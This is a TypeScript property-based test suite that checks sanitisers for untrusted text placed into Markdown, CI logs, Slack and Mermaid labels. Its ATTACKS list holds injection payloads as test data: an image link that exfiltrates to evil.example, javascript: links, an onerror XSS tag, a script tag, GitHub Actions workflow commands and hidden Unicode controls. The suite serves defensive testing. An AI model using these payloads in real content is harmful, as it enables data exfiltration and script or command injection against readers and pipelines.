import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { code, mermaidLabel, plainText, safeLink, safeText, slackText } from "../../src/notice/safe-text.ts";
import { safeWords } from "../../src/notice/safe-words.ts";
import { liveMarks, renderGfm } from "./live-marks.ts";

const ATTACKS = [
  "@octocat and @acme/owners",
  "\\@octocat",
  "&#64;octocat &commat;octocat",
  "![exfil](https://evil.example/?d=1)",
  "!\\[x\\](https://evil.example)",
  "[click](javascript:alert(1))",
  "[ref]: https://evil.example",
  "<img src=x onerror=alert(1)>",
  "<!-- hidden -->",
  "<https://evil.example> <a@evil.example>",
  "https://evil.example www.evil.example ftp://evil.example",
  "https\\://evil.example www\\.evil.example",
  "mailto:a@evil.example xmpp:a@evil.example/x",
  "fixes #12, closes acme/other#3, GH-7",
  "::set-output name=a::b",
  "x\n::add-mask::y\n##[group]z",
  "# head\n## head",
  "a\n---\nb",
  "- a\n1. b\n> c",
  "1. numbered",
  "---",
  "| a | b |\n|---|---|",
  "```mermaid\ngraph LR\n```",
  "`a` ``b`` ~~c~~ **d** __e__",
  "$\\href{https://evil.example}{x}$",
  ":octocat: :+1:",
  "\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
  "\u202Egnp.exe \u2066x\u2069 a\u200Bb\uFEFF",
  "\u{E0041}\u{E0042} tags",
  "h\u200Bttps://evil.example @\u200Bocto",
  "[^1] and [x] and - [ ] todo",
  "\uD800 torn",
  "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
  "</details></summary><script>x</script>",
  "\\",
  "a\\|b\\",
];

const PIECES = fc.constantFrom(
  ...ATTACKS,
  ..."\\`*_[]()<>&|~!#$@:/.-+= \n\t0a".split(""),
  "&lt;",
  "&amp;",
  "://",
  "www.",
  "::",
  "\u200B",
  "\u202E",
);
const hostile = fc.oneof(
  fc.array(PIECES, { maxLength: 24 }).map((pieces) => pieces.join("")),
  fc.string({ unit: "binary", maxLength: 80 }),
);

/** Every place where a builder puts hostile text. */
const PLACES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Words: ${text} and more`,
  (text) => `- ${text}`,
  (text) => `> **${text}** after`,
  (text) => `| A | B |\n|:--|:--|\n| ${text} | ${text}<br>x |`,
  (text) => `<details>\n<summary>${text}</summary>\n\n${text}\n\n</details>`,
];

describe("hostile text in Markdown", () => {
  it("acts nowhere: no tag, link, image, mention, reference, command or hidden character", () => {
    fc.assert(
      fc.property(hostile, fc.constantFrom(...PLACES), fc.integer({ min: 4, max: 200 }), (text, place, limit) => {
        expect(liveMarks(place(safeText(text, limit)), [])).toEqual([]);
      }),
      { numRuns: 800 },
    );
  });

  it("makes no structure: a place renders the same tags as with a harmless word", () => {
    const shape = (markdown: string) => renderGfm(markdown).replace(/>[^<]*</g, "><");
    fc.assert(
      fc.property(hostile, fc.constantFrom(...PLACES.slice(1)), (text, place) => {
        const safe = safeText(text, 150);
        fc.pre(safe !== "");
        expect(shape(place(safe))).toBe(shape(place("word")));
      }),
      { numRuns: 800 },
    );
  });

  it("is the same when made safe twice, and never longer than its limit", () => {
    fc.assert(
      fc.property(hostile, fc.integer({ min: 1, max: 120 }), (text, limit) => {
        for (const make of [safeText, plainText, slackText, mermaidLabel]) {
          const once = make(text, limit);
          expect(make(once, limit)).toBe(once);
          expect(once.length).toBeLessThanOrEqual(limit);
        }
      }),
      { numRuns: 800 },
    );
  });

  it("stays the same when a cut leaves a mark at the end that stood between letters", () => {
    const once = slackText("a b c b_house", 9);
    expect(once).toBe("a b c bˍ…");
    expect(slackText(once, 9)).toBe(once);
  });

  it.each(ATTACKS)("%j is drawn, not done", (attack) => {
    for (const place of PLACES) expect(liveMarks(place(safeText(attack, 200)), [])).toEqual([]);
  });

  it("keeps what people write readable", () => {
    expect(safeText("Fix total() in src/cart.ts, 12:30", 200)).toBe("Fix total() in src/cart.ts, 12:30");
    expect(renderGfm(safeText("a < b && c > d * e_f [g]", 200))).toBe("<p>a &lt; b &amp;&amp; c &gt; d * e_f [g]</p>");
  });
});

describe("hostile text elsewhere", () => {
  it("is one line without commands or hidden characters in a log", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const line = plainText(text, 200);
        expect(line).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}]|::|##\[/u);
      }),
      { numRuns: 500 },
    );
  });

  it("has no control sequence, mention or link in Slack", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(slackText(text, 200)).not.toMatch(/[<>`*~]|@\S|(?<![\p{L}\p{N}_])_|:\/\/|&(?!(?:lt|gt|amp);)/u);
      }),
      { numRuns: 500 },
    );
  });

  it("ends neither code nor a table cell between backticks", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const markdown = `| A | B |\n|:--|:--|\n| ${code(text, 80)} | b |`;
        expect(liveMarks(markdown, [])).toEqual([]);
        expect(renderGfm(markdown).match(/<td/g)).toHaveLength(2);
      }),
      { numRuns: 500 },
    );
  });

  it("leaves a diagram's label nothing that Mermaid reads", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(mermaidLabel(text, 40)).toMatch(/^[\p{L}\p{N} ._/+,?…-]+$/u);
      }),
    );
  });
});

describe("words with names between backticks", () => {
  it("draw the names as code", () => {
    expect(safeWords("last changed `src/coupons.js:4`, which the stack trace names", 160)).toBe(
      "last changed `src/coupons.js:4`, which the stack trace names",
    );
    expect(safeWords("`total` and `a_b` occur", 160)).toBe("`total` and `a_b` occur");
  });

  it("draw no emoji where backticks are only letters, as inside an HTML block", () => {
    for (const place of PLACES) expect(liveMarks(place(safeWords("`:octocat: :+1:`", 16)), [])).toEqual([]);
    expect(safeWords("`deployment:production` at `src/a.ts:12:30`", 80)).toBe(
      "`deployment:production` at `src/a.ts:12:30`",
    );
  });

  it("act nowhere, whoever set the backticks", () => {
    fc.assert(
      fc.property(
        hostile,
        fc.constantFrom(...PLACES.slice(1)),
        fc.integer({ min: 4, max: 200 }),
        (text, place, limit) => {
          expect(liveMarks(place(safeWords(text, limit)), [])).toEqual([]);
          expect(safeWords(text, limit).length).toBeLessThanOrEqual(limit * 2);
        },
      ),
      { numRuns: 600 },
    );
  });
});

describe("links", () => {
  const allowed = ["https://github.com/acme/shop/"];

  it("lead only below an allowed address", () => {
    expect(safeLink("log", "https://github.com/acme/shop/actions/runs/1", allowed)).toBe(
      "[log](https://github.com/acme/shop/actions/runs/1)",
    );
    const refused = [
      "https://github.com/acme/shop/../evil/x",
      "https://github.com/acme/shopping/x",
      "https://github.com.evil.example/acme/shop/",
      "https://user@github.com/acme/shop/x",
      "http://github.com/acme/shop/x",
      "javascript:alert(1)//https://github.com/acme/shop/",
      "not a url",
    ];
    for (const url of refused) expect(safeLink("log", url, allowed)).toBe("log");
  });

  it("cannot be broken out of by what stands in the address", () => {
    const link = safeLink("log", 'https://github.com/acme/shop/a) <b> [c](d "e" @f | `g`', allowed);
    expect(liveMarks(`| A |\n|:--|\n| ${link} |`, allowed)).toEqual([]);
    expect(renderGfm(link).match(/<a /g)).toHaveLength(1);
  });
});
